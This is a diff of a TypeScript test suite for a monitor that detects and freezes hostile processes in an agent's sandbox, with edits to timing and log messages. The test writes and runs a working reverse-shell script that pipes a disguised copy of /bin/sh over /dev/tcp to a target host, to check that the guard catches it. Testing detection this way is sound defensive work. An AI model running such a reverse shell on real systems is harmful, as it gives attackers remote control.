@@ -179,7 +179,7 @@ async function expectKilled(label: string, name: string, port: number, category 
     port < 0
       ? `${label}: detect → freeze ${crit.response?.containMs} ms, stopped ${stoppedMs} ms after the freeze (rule ${crit.evidence.rule})`
       : connect !== undefined
-      ? `${label}: connect → frozen ${frozenAt - connect} ms, connect → stopped ${frozenAt + stoppedMs - connect} ms (rule ${crit.evidence.rule}, detect → freeze ${crit.response?.containMs} ms)`
+      ? `${label}: connect → frozen ${frozenAt - connect} ms${frozenAt < connect ? ' (frozen before the listener saw the connection: caught at its exec)' : ''}, connect → stopped ${frozenAt + stoppedMs - connect} ms (rule ${crit.evidence.rule}, detect → freeze ${crit.response?.containMs} ms)`
       : `${label}: frozen before any connection reached the listener (rule ${crit.evidence.rule}); stopped ${stoppedMs} ms after the freeze`,
   );
   return crit;
@@ -352,7 +352,7 @@ describe('the monitor in the guard', () => {
     assert.ok(chain.some((l) => l.comm.startsWith('tmux')), 'up to the agent\'s tmux');
     const line = auditLines(name).records.find((r) => r.id === crit.id);
     assert.ok(line, 'the pushed threat is the audit line');
-    const copies = (await c.listInstances()).filter((i) => i.config['user.coi.forensics-of'] === name);
+    const copies = (await c.listInstances()).filter((i) => i.config?.['user.coi.forensics-of'] === name);
     assert.equal(copies.length, 1, 'one forensic copy');
     assert.equal(copies[0]!.config['user.coi.managed'], 'false', 'the copy is no sandbox');
     assert.equal(copies[0]!.status, 'Stopped');
@@ -401,8 +401,10 @@ describe('the monitor in the guard', () => {
     writeFileSync(path.join(root, 'ws-restart', 'rs.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
     await type(name, 'bash /workspace/rs.sh');
     await waitFor('the reverse shell to connect while the guard is down', () => (accepted.has(port) ? true : undefined), 15_000);
+    const restartedAt = Date.now();
     guard = startGuard();
-    const crit = await expectKilled('after kill -9 of the guard', name, port);
+    const crit = await expectKilled('after kill -9 of the guard (connected while no guard ran)', name, port);
+    measured.push(`  the new guard froze it ${Date.parse(crit.response?.frozenAt ?? '') - restartedAt} ms after it was started (node start-up included)`);
     const { records, bad } = auditLines(name);
     assert.equal(bad, 0, 'every line parses: nothing torn');
     const ids = new Set(records.map((r) => r.id));
